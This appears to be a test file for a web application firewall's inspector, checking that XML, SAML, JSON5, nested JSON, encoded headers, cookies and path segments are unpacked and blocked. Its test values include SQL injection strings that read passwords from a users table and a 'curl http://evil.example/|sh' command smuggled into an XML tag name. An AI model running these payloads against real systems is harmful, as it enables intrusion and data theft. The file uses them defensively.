// What lies in a value is looked at as the application gets it that reads it out.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import type { Where } from '../../../src/guard/decide/waf/inspect/piece.ts';
import { Pieces } from '../../../src/guard/decide/waf/inspect/pieces.ts';
import { readers } from '../../../src/guard/decide/waf/inspect/places.ts';
import { blockedBy } from '../../corpora/report/default-set.ts';
import { paperRequest } from '../paper-wire.ts';

/** `name=text` of every piece of a value but itself. */
function within(value: string, where: Where = 'json'): string[] {
  const pieces = new Pieces();
  pieces.add('a', value, where, []);
  return pieces.list.slice(1).map(({ name, text }) => `${name}=${text}`);
}

/** The same of headers, and of a path. */
function read(place: number, target: string, headers: readonly string[]): string[] {
  const pieces = new Pieces();
  readers[place]!(paperRequest({ target, headers }), pieces, 100);
  return pieces.list.map(({ name, text }) => `${name}=${text}`);
}
const header = (name: string, value: string): string[] => read(4, '/', [name, value]);
const cookie = (value: string): string[] => read(2, '/', ['Cookie', value]);
const path = (target: string): string[] => read(3, target, []);

const response =
  '<samlp:Response xmlns:samlp="urn:p" ID="_1&apos;"><NameID>a&apos; or &apos;1</NameID></samlp:Response>';

test('a document of XML in a value is looked at by its parts, however it is packed', () => {
  const packed = deflateRawSync(response).toString('base64');
  for (const value of [response, Buffer.from(response).toString('base64'), packed]) {
    const found = within(value);
    assert.ok(found.includes("a/samlp:Response/NameID=a' or '1"), `${found}`);
    assert.ok(found.includes("a/samlp:Response/@ID=_1'"), `${found}`);
  }
  assert.deepEqual(within('<Order><Note>a.b</Note></Order>'), ['a/Order/Note=a.b']);
});

test('a page, a part of one and what is pasted in lines are no documents of XML', () => {
  for (const value of [
    '<p>Run <code>rm -rf</code></p>',
    '<html><body>a.b</body></html>',
    '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0,0"/></svg>',
    '<dependency>\n  <artifactId>a.b</artifactId>\n</dependency>',
    '<b>bold</b> and <i>not</i>',
    '< 5 and > 3',
  ])
    assert.deepEqual(within(value), [], value);
});

test('JSON5 in a value is looked at by its parts', () => {
  assert.deepEqual(within("{q:'a\\x27b',/* c.d */'r':`e.f`}").slice(0, 5), [
    'a/q=q',
    "a/q=a'b",
    'a=c.d',
    'a/r=r',
    'a/r=e.f',
  ]);
  for (const value of ['{a::b}', '{ color }', '{{name}}', '{0}']) assert.deepEqual(within(value), [], value);
});

test('JSON in JSON is read six deep, and that there would be more is told', () => {
  const nested = (levels: number): Pieces => {
    let text = "x'y";
    for (let i = 0; i < levels; i++) text = JSON.stringify({ b: text });
    const pieces = new Pieces();
    pieces.add('', text, 'json', []);
    return pieces;
  };
  assert.ok(nested(6).list.some(({ text }) => text === "x'y"));
  assert.equal(nested(6).truncated, false);
  assert.equal(nested(7).truncated, true);
});

test('encoded words are undone wherever they stand, as a whole and each by itself', () => {
  const b = Buffer.from('<b>').toString('base64');
  assert.deepEqual(within('=?utf-8?Q?=3Cb=3E_c?='), ['a=<b> c']);
  assert.deepEqual(within(`=?UTF-8*en?b?${b}?= =?utf-8?q?x?=`), ['a=<b>x']);
  assert.deepEqual(within(`Anna =?utf-8?B?${b}?= <a@b.test>`), ['a=Anna <b> <a@b.test>', 'a=<b>']);
  assert.deepEqual(within('a=?b'), []);
});

test('the arguments of relative addresses and of forms are looked at', () => {
  for (const [value, found] of [
    ['/find?a=1&q=%27x', "a?q='x"],
    ['?q=.git%2Fx', 'a?q=.git/x'],
    ['x=1&q=%27x', "a?q='x"],
    ['https://a.test/#q=%3Cb', 'a?q=<b'],
    ['/a#!/x?q=%3Cb', 'a?q=<b'],
  ] as const)
    assert.ok(within(value).includes(found), `${value}: ${within(value)}`);
  for (const value of ['a=b.c', 'what if a=1 & b=2.3?', 'E=mc^2', 'a.b?c', 'x==y&&z'])
    assert.deepEqual(within(value), [], value);
});

test('names of files, members of baggage, quoted texts and credentials of headers are looked at', () => {
  const disposition = 'attachment; filename="a.b"; filename*=UTF-8\'\'%3Cb%3E';
  assert.ok(header('Content-Disposition', disposition).includes('Content-Disposition=<b>'));
  assert.ok(header('Baggage', 'a=1, user=%27x;p=1').includes("Baggage?user='x"));
  assert.ok(header('If-Match', '"a\\"b"').includes('If-Match=a"b'));
  assert.ok(header('Authorization', "Bearer x' or 1").includes("Authorization?token=x' or 1"));
  assert.ok(
    header('Authorization', 'Digest username="a\' or", realm="r"').includes("Authorization?username=a' or"),
  );
  assert.equal(header('Authorization', 'Bearer abc.def-ghi_~+/==').length, 1);
  assert.equal(header('Sec-CH-UA-Platform', '"Linux"').length, 1);
  assert.equal(header('Sec-CH-UA', '"Chromium";v="128", "Not;A=Brand";v="24"').length, 1);
});

test('cookies as Express writes them are read as JSON, the signature left out', () => {
  assert.ok(cookie(`p=${encodeURIComponent('j:{"a":"x\'y"}')}`).includes("p/a=x'y"));
  assert.ok(cookie(`p=${encodeURIComponent('s:j:{"a":"x\'y"}.c2ln')}`).includes("p/a=x'y"));
  assert.ok(cookie(`p=${encodeURIComponent("s:x'y.c2ln")}`).includes("p=x'y"));
});

test('segments in base64, with names and with keys of OData are looked at', () => {
  const encoded = Buffer.from("1' or '1'='1").toString('base64url');
  assert.ok(path(`/items/${encoded}/parts`).includes("=1' or '1'='1"));
  assert.ok(path('/items/id=%27x/parts').includes("id='x"));
  assert.ok(path("/Items('a%27%27b')").includes("=a'b"));
  assert.ok(path('/Items(name=%27a.b%27)/x').includes('name=a.b'));
});

test('an argument whose comment another one of its name ends is looked at as one', () => {
  const found = read(0, '/?id=1%20union/*&x=2&id=*/select%20a,b', []);
  assert.ok(found.includes('id=1 union/*,*/select a,b'), `${found}`);
  assert.equal(read(0, "/?id=it's&id=x,y&id=/*a*/", []).length, 6);
});

test('what stands where XML has names and is none is looked at, and the document as the text it is', () => {
  for (const value of [
    "<x><a'||(select(password)from(users))||'/></x>",
    "<x><a '||(select(password)from(users))||'='b'/></x>",
    "<x></a'||(select(password)from(users))||'></x>",
    "<x><y></y'||(select(password)from(users))||'></x>",
    '<x><y></y;curl\thttp://evil.example/|sh;></x>',
  ]) {
    const target = `/?id=${encodeURIComponent(value)}`;
    assert.notEqual(blockedBy({ target }), '', value);
    const headers = ['Content-Type', 'application/xml'];
    assert.notEqual(blockedBy({ method: 'POST', headers, body: value }), '', value);
  }
});
